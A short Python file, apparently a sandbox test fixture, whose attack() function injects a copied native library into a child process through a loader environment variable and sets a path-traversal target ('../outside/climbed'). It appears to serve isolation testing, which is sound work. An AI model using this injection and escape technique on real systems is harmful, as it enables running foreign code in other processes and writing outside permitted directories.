"""A child the function may start is given a library of the attacker's by the loader's own variables."""

import os
import shutil
import subprocess
import sys


def attack(event):
    source = os.path.join(os.path.dirname(__file__), "native.so")
    library = shutil.copy(source, os.path.join(event["tmp"], "early.so"))
    environment = dict(os.environ, NATIVE_FILE=os.path.join(event["tmp"], "..", "outside", "climbed"))
    environment[event["variable"]] = library
    done = subprocess.run([sys.executable, "-c", ""], env=environment, capture_output=True)
    return done.stderr.decode()
